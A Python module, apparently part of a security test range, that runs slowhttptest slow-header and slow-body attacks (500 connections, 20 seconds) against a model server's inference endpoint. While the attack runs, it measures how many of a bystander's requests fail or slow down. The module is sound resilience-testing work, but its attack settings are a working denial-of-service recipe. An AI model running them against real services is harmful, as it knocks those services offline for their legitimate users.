"""The range's slow clients: slowhttptest holds connections open by headers and bodies that never end. Not a script."""

from __future__ import annotations

import shutil
import subprocess
import threading
import time

from hostile import Outcome
from wire import Wire

CONNECTIONS, SECONDS = 500, 20
MODES = {"slow-headers": ["-H", "-i", "5"], "slow-bodies": ["-B", "-i", "5", "-s", "8192", "-t", "POST"]}


def slow(place, victim, mode: str) -> Outcome:
    """The share of a bystander's requests that fail, or take a second, meanwhile."""
    if shutil.which("slowhttptest") is None:
        raise RuntimeError("slowhttptest is not there: apt-get install slowhttptest")
    outcome = Outcome(mode, [])
    url = f"{place.url}/v2/models/{victim.name}/infer"
    command = ["slowhttptest", *MODES[mode], "-c", str(CONNECTIONS), "-r", "200", "-l", str(SECONDS), "-p", "3", "-x", "24", "-u", url]
    attack = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    token, state = place.node.caller(f"bystander-{mode}"), {"asked": 0, "lost": 0}

    def stand_by() -> None:
        wire = Wire(place.url, place.ca)
        while attack.poll() is None:
            began = time.monotonic()
            try:
                answered = wire.infer(victim.name, victim.test[:1], token).status == 200
            except OSError:
                answered = False
            state["asked"] += 1
            state["lost"] += not answered or time.monotonic() - began > 1.0
            time.sleep(0.02)
        wire.close()

    bystander = threading.Thread(target=stand_by)
    bystander.start()
    try:
        attack.wait(timeout=3 * SECONDS)
    finally:
        if attack.poll() is None:
            attack.kill()
        bystander.join()
    outcome.requests, outcome.gain = state["asked"], state["lost"] / max(state["asked"], 1)
    return outcome
